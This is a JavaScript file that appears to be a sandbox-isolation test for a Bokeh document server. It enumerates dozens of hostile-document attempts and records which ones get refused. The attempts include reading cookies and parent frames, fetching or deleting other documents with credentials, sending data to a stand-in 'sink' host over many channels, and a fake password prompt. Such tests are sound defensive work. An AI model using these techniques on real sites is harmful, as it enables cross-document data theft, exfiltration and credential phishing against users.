// What a hostile document tries, as the code of a callback. What an attempt got starts with `got`;
// `server`, `docid`, `other`, `sink` and `own_script` come before it.

const got = (value) => `got ${value}`
const settled = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 3000, "silence"))])
const answer = async (url, options = {}) =>
  got((await fetch(url, {credentials: "include", ...options})).type)
const loads = (name, fields) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(name), fields)
  element.onload = () => resolve(got("load"))
  element.onerror = () => reject(new Error("no load"))
  document.body.append(element)
})
const socket = (url, protocols) => new Promise((resolve, reject) => {
  const made = new WebSocket(url, protocols)
  made.onopen = () => resolve(got("open"))
  made.onerror = () => reject(new Error("no socket"))
})
const made = (kind, text) => URL.createObjectURL(new Blob([text], {type: kind}))
const style = (text) => {
  const element = document.createElement("style")
  element.textContent = text
  document.body.append(element)
}
const body = JSON.stringify({title: "made by a hostile document"})
const {ticket} = bokeh_server_session
const attempts = {
  cookie: () => got(document.cookie),
  set_cookie: () => { document.cookie = "planted=1"; return got("set") },
  cookie_store: async () => got(JSON.stringify(await cookieStore.getAll())),
  local_storage: () => got(localStorage.length),
  session_storage: () => got(sessionStorage.length),
  database: () => new Promise((resolve, reject) => {
    const asked = indexedDB.open("x")
    asked.onsuccess = () => resolve(got("database"))
    asked.onerror = () => reject(asked.error)
  }),
  caches: async () => got(await caches.keys()),
  service_worker: async () => got(await navigator.serviceWorker.register(own_script)),
  shared_worker: () => new Promise((resolve, reject) => {
    const worker = new SharedWorker(own_script)
    worker.onerror = () => reject(new Error("no worker"))
  }),
  shell_document: () => got(parent.document.title),
  shell_address: () => got(parent.location.href),
  shell_storage: () => got(parent.localStorage),
  shell_frame_element: () => got(window.frameElement.id),
  nested: () => {
    const nested = document.createElement("iframe")
    document.body.append(nested)
    return got(nested.contentWindow.document.title + nested.contentWindow.RTCPeerConnection)
  },
  who_am_i: () => answer(`${server}/bokeh/userinfo/`),
  my_ticket: () => answer(`${server}/bokeh/doc/${docid}/ticket?kind=frame`),
  other_document: () => answer(`${server}/bokeh/doc/${other}/content`),
  other_by_ticket: () => answer(`${server}/bokeh/doc/${other}/content`, {headers: {"Bokeh-Ticket": ticket}}),
  make: () => answer(`${server}/bokeh/doc/`, {method: "POST", body}),
  make_blind: () => answer(`${server}/bokeh/doc/`, {method: "POST", body, mode: "no-cors"}),
  make_beacon: () => { navigator.sendBeacon(`${server}/bokeh/doc/`, body) },
  remove: () => answer(`${server}/bokeh/doc/${other}/`, {method: "DELETE"}),
  own_content_by_cookie: async () => got((await fetch(`${server}/bokeh/doc/${docid}/content`, {credentials: "include"})).status),
  other_socket: () => socket(`${server}/bokeh/doc/${other}/ws`.replace("http", "ws"), ["bokeh", ticket]),
  index_socket: () => socket(`${server}/bokeh/ws`.replace("http", "ws"), []),
  own_socket_without: () => socket(`${server}/bokeh/doc/${docid}/ws`.replace("http", "ws"), ["bokeh"]),
  autoload: () => loads("script", {src: `${server}/bokeh/autoload.js/a?docid=${other}&modelid=secret`}),
  own_image: () => loads("img", {src: `${server}/bokeh/doc/${other}/content`}),
  fetch_out: () => answer(`${sink}/fetch`, {mode: "no-cors"}),
  xhr: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest()
    request.onload = () => resolve(got("load"))
    request.onerror = () => reject(new Error("no load"))
    request.open("GET", `${sink}/xhr`)
    request.send()
  }),
  beacon: () => navigator.sendBeacon(`${sink}/beacon`, "x") && "queued",
  event_source: () => new Promise((resolve, reject) => {
    const source = new EventSource(`${sink}/events`)
    source.onerror = () => { source.close(); reject(new Error("no events")) }
  }),
  socket_out: () => socket(`${sink}/socket`.replace("http", "ws")),
  transport: async () => got(await new WebTransport(sink.replace("http:", "https:")).ready),
  image: () => loads("img", {src: `${sink}/image?secret`}),
  script: () => loads("script", {src: `${sink}/script.js`}),
  module: async () => got(await import(`${sink}/module.js`)),
  style_sheet: () => loads("link", {rel: "stylesheet", href: `${sink}/style.css`}),
  prefetch: () => loads("link", {rel: "prefetch", href: `${sink}/prefetch`}),
  preload: () => loads("link", {rel: "preload", as: "image", href: `${sink}/preload`}),
  module_preload: () => loads("link", {rel: "modulepreload", href: `${sink}/modulepreload`}),
  manifest: () => { document.head.append(Object.assign(document.createElement("link"), {rel: "manifest", href: `${sink}/m`})) },
  import_rule: () => style(`@import "${sink}/import.css"; body { background: url(${sink}/background) }`),
  font: async () => got(await new FontFace("x", `url(${sink}/font)`).load()),
  media: () => loads("video", {src: `${sink}/video`}),
  object: () => { loads("object", {data: `${sink}/object`}).catch(() => {}) },
  embed: () => { loads("embed", {src: `${sink}/embed`}).catch(() => {}) },
  inner_frame: () => { loads("iframe", {src: `${sink}/frame`}).catch(() => {}) },
  inner_document: () => { loads("iframe", {srcdoc: `<img src="${sink}/srcdoc"><script>parent.parent.postMessage(1, "*")</script>`}).catch(() => {}) },
  preconnect: () => {
    for (const rel of ["dns-prefetch", "preconnect"]) {
      document.head.append(Object.assign(document.createElement("link"), {rel, href: sink}))
    }
  },
  speculation: () => {
    const rule = [{source: "list", urls: [`${sink}/speculation`]}]
    document.head.append(Object.assign(document.createElement("script"), {
      type: "speculationrules", textContent: JSON.stringify({prefetch: rule, prerender: rule}),
    }))
  },
  markup: () => {
    document.body.insertAdjacentHTML("beforeend", `
      <svg><use href="${sink}/use#a"/><image href="${sink}/svg"/></svg>
      <audio controls><source src="${sink}/audio"><track src="${sink}/track" default></audio>
      <input type="image" src="${sink}/input"><object data="${sink}/object"></object>`)
  },
  rules: () => style(`body { cursor: url(${sink}/a), auto; mask-image: url(${sink}/b);
    filter: url(${sink}/c#a); border-image: url(${sink}/d) 1 } body::after { content: url(${sink}/e) }`),
  worklet: async () => got(await new AudioContext().audioWorklet.addModule(`${sink}/worklet.js`)),
  worker_scripts: () => {
    for (const [text, type] of [[`importScripts("${sink}/i")`, "classic"], [`import("${sink}/m")`, "module"],
      [`new WebSocket("${sink.replace("http", "ws")}/w")`, "classic"]]) {
      new Worker(made("text/javascript", text), {type})
    }
  },
  later: () => { fetchLater(`${sink}/later`) },
  worker: () => new Promise((resolve, reject) => {
    const worker = new Worker(made("text/javascript",
      `fetch("${sink}/worker", {mode: "no-cors"}).then(() => postMessage("got out"), () => postMessage("refused"))`))
    worker.onmessage = ({data}) => resolve(data)
    worker.onerror = () => reject(new Error("no worker"))
  }),
  form: () => {
    const form = Object.assign(document.createElement("form"), {action: `${sink}/form`, method: "post"})
    document.body.append(form)
    form.submit()
  },
  open_window: () => { if (window.open(`${sink}/window`) != null) return got("a window") },
  link_out: () => {
    for (const target of ["_blank", "_top", "_parent"]) {
      const link = Object.assign(document.createElement("a"), {href: `${sink}/link`, target, ping: `${sink}/ping`})
      document.body.append(link)
      link.click()
    }
  },
  top: () => { top.location = `${sink}/top`; return got("no refusal") },
  top_by_replace: () => { top.location.replace(`${sink}/replace`); return got("no refusal") },
  close_shell: () => { top.close() },
  dialog: () => { if (confirm("Your password, please") || prompt("password")) return got("a dialog") },
  peer: () => got(new RTCPeerConnection({iceServers: [{urls: `stun:${sink.slice(7)}`}]})),
  full_api: () => got(parent.fetch),
}
const found = {}
for (const [name, attempt] of Object.entries(attempts)) {
  try {
    found[name] = String(await settled(attempt()))
  } catch (error) {
    found[name] = `refused: ${error.message}`
  }
}
window.found = found
